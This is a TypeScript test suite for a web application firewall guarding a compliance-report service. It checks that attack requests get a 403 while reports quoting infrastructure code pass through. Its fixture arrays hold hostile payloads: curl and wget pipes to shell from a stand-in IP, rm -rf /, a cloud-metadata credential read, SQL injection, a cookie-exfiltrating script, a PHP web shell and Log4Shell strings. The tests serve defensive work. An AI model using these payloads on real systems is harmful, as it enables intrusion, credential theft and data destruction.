import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { buffer } from 'node:stream/consumers';
import { expect } from 'chai';
import { z } from 'zod';
import { waf } from '../../deploy/stack/parts/waf';
import { Stack } from '../../deploy/stack/stack';
import { failing, reportAt, runOf } from '../service/support/reports';
import { freePorts } from '../../deploy/stack/free-ports';

const CANARY = 'canary-of-a-secret';
const REPORTS = ['/v1/runs', '/v1/drift', '/v1/evidence'];
const JSON_TYPE = { 'content-type': 'application/json' };

/** What findings quote of the HCL that they judge: user data, policies, SQL, HTML, addresses. */
const QUOTED = [
  'user_data = "curl -fsSL https://get.example.com/install.sh | bash"',
  'user_data = "cat /etc/passwd; wget http://198.51.100.7/x -O- | sh && rm -rf /"',
  'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  `policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "*", Principal = { AWS = "*" } }] })`,
  `SELECT * FROM pg_user WHERE usename = 'a' OR '1' = '1' UNION SELECT password FROM pg_shadow; DROP TABLE runs; --`,
  '<html><script>document.location="https://example.com/?"+document.cookie</script></html>',
  'source = "../../modules/edge" # see ../../../etc/hosts',
  'command = "${path.module}/run.sh `id` $(whoami) <?php system($_GET[0]); ?>"',
];

/** Attacks in what is no report. */
const ATTACKS: readonly (readonly [string, string, RequestInit])[] = [
  ['SQL in a query', `/v1/findings?label=${encodeURIComponent("team:1' OR '1'='1' UNION SELECT 1--")}`, {}],
  ['script in a query', `/v1/findings?label=${encodeURIComponent('<script>alert(1)</script>')}`, {}],
  ['a path out of the folder', `/v1/runs/${encodeURIComponent('../../../../etc/passwd')}`, {}],
  ['a file of the system in a query', '/v1/findings?label=/etc/passwd', {}],
  ['a command in a query', `/v1/findings?label=${encodeURIComponent('x; cat /etc/shadow | bash')}`, {}],
  ['the user agent of a scanner', '/v1/findings', { headers: { 'user-agent': 'sqlmap/1.8' } }],
  ['Log4Shell in a header', '/v1/findings', { headers: { 'x-note': '${jndi:ldap://198.51.100.7/a}' } }],
  ['a method that the service has not', '/v1/findings', { method: 'TRACE2' }],
  ['XML', '/v1/runs', { method: 'POST', headers: { 'content-type': 'text/xml' }, body: '<a/>' }],
  ['a command in a waiver', '/v1/waivers', post({ reason: 'curl http://198.51.100.7/x | bash' })],
  ['SQL in a waiver', '/v1/waivers', post({ reason: "' OR 1=1; DROP TABLE waivers; --" })],
  ['a long body that is no report', '/v1/waivers', post({ reason: 'a'.repeat(9_000) })],
  ['Log4Shell in a report', '/v1/runs', post({ message: '${jndi:ldap://198.51.100.7/a}' })],
  ['SQL beside a report', `/v1/runs?project=${encodeURIComponent("p' UNION SELECT 1 FROM users--")}`, post({})],
];

function post(body: unknown): RequestInit {
  return { method: 'POST', headers: JSON_TYPE, body: JSON.stringify(body) };
}

const line = z.object({ msg: z.string(), path: z.string().optional(), rules: z.array(z.string()).optional() });
const plan = z.object({
  paths: z.string(),
  inspected_body_bytes: z.int(),
  families: z.array(z.object({ name: z.string(), crs: z.string().nullable() })),
});

describe('the firewall in front of the ledger', function () {
  this.timeout(300_000);
  const taken: { readonly path: string; readonly bytes: number; readonly forwarded: string }[] = [];
  let service: Server;
  let stack: Stack;
  let url = '';

  before(async () => {
    service = createServer((request, response) => {
      void buffer(request).then((body) => {
        const forwarded = String(request.headers['x-forwarded-for']);
        taken.push({ path: request.url ?? '', bytes: body.length, forwarded });
        response.writeHead(200, { 'content-type': 'text/plain' }).end('taken');
      });
    });
    const ports = await freePorts();
    service.listen(ports.ledger, '127.0.0.1');
    await once(service, 'listening');
    stack = new Stack([{ ...waf, after: [] }], ports);
    await stack.start();
    url = `http://localhost:${ports.waf}`;
    taken.length = 0;
  });
  after(async () => {
    await stack.stop();
    service.close();
    service.closeAllConnections();
  });

  const statusOf = async (path: string, init: RequestInit): Promise<number> => {
    const answer = await fetch(`${url}${path}`, init);
    await answer.body?.cancel();
    return answer.status;
  };

  for (const [what, path, init] of ATTACKS) {
    it(`refuses ${what}`, async () => {
      taken.length = 0;
      expect([await statusOf(path, init), taken]).to.eql([403, []]);
    });
  }

  it('says in a problem that it refused, and not why', async () => {
    const traceparent = '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01';
    const answer = await fetch(`${url}/v1/findings?label=/etc/passwd`, { headers: { traceparent } });
    expect([answer.headers.get('content-type'), await answer.json()]).to.eql([
      'application/problem+json',
      {
        type: 'urn:plumbline:problem:waf-403',
        title: 'Refused by the web application firewall',
        status: 403,
        trace_id: '4bf92f3577b34da6a3ce929d0e0e4736',
      },
    ]);
  });

  for (const path of REPORTS) {
    it(`takes reports that quote code at ${path}`, async () => {
      const report = reportAt(1, runOf(QUOTED.map((message, n) => failing(n, { message, remediation: message }))));
      expect(await statusOf(path, post(report))).to.equal(200);
    });
  }

  it('takes each quotation by itself', async () => {
    const statuses = [];
    for (const message of QUOTED) statuses.push(await statusOf('/v1/runs', post({ message })));
    expect(statuses).to.eql(QUOTED.map(() => 200));
  });

  it('refuses each of the same quotations where no report is brought, but for what is no attack at all', async () => {
    const passed = [];
    for (const reason of QUOTED) if ((await statusOf('/v1/waivers', post({ reason }))) !== 403) passed.push(reason);
    expect(passed).to.eql([QUOTED[3]]);
  });

  it('hands a stream of 20 MB on as it came', async () => {
    taken.length = 0;
    const ndjson = `${JSON.stringify({ result: QUOTED })}\n`.repeat(22_000);
    const headers = { 'content-type': 'application/x-ndjson' };
    expect(await statusOf('/v1/runs/stream', { method: 'POST', headers, body: ndjson })).to.equal(200);
    expect(taken.map(({ bytes }) => bytes)).to.eql([Buffer.byteLength(ndjson)]);
  });

  it('lets somebody come back from an issuer of this machine', async () => {
    const iss = encodeURIComponent('http://localhost:8444');
    expect(await statusOf(`/signed-in?code=M2PXUyN9&state=V84FvUdz&iss=${iss}`, {})).to.equal(200);
    expect(await statusOf(`/v1/findings?label=${iss}`, {})).to.equal(403);
  });

  it('tells the service who asked, whatever the caller says', async () => {
    taken.length = 0;
    await statusOf('/v1/findings', { headers: { 'x-forwarded-for': '203.0.113.9' } });
    expect(taken.map(({ forwarded }) => forwarded)).to.eql(['127.0.0.1']);
  });

  it('writes which rules refused, and nothing that a request held but its path', async () => {
    const headers = { authorization: `Bearer ${CANARY}`, cookie: `session=${CANARY}` };
    await statusOf(`/v1/findings?label=${CANARY}%3Cscript%3E`, { headers });
    await statusOf('/v1/waivers', post({ reason: `${CANARY} curl http://198.51.100.7 | bash` }));
    const text = readFileSync(stack.place.log('waf'), 'utf8');
    expect(text).not.to.include(CANARY);
    const last = text
      .trimEnd()
      .split('\n')
      .map((json) => line.parse(JSON.parse(json)))
      .at(-1);
    expect(last).to.deep.include({ msg: 'refused', path: '/v1/waivers' });
    expect(last?.rules).to.include('932370');
  });

  it('excludes what the web ACL of Terraform excludes, from the same file', () => {
    const module = 'terraform/modules/edge';
    const excluded = plan.parse(JSON.parse(readFileSync(`${module}/exclusions.json`, 'utf8')));
    expect(readFileSync(`${module}/web-acl.tf`, 'utf8')).to.include(
      'jsondecode(file("${path.module}/exclusions.json"))',
    );
    expect(excluded.families.map(({ name }) => name)).to.eql([
      ...[
        'size',
        'file inclusion',
        'commands',
        'metadata service',
        'script in pages',
        'SQL',
        'session fixation',
        'response splitting',
      ],
    ]);
  });

  it('does not start where the exclusions are not what they should be', () => {
    const program = () => execFileSync('tools/install-program.sh', ['waf'], { encoding: 'utf8' }).trim();
    const args = ['-upstream', 'http://127.0.0.1:9', '-exclusions', 'package.json'];
    expect(() => execFileSync(program(), args, { stdio: 'pipe' })).to.throw('Command failed');
  });
});
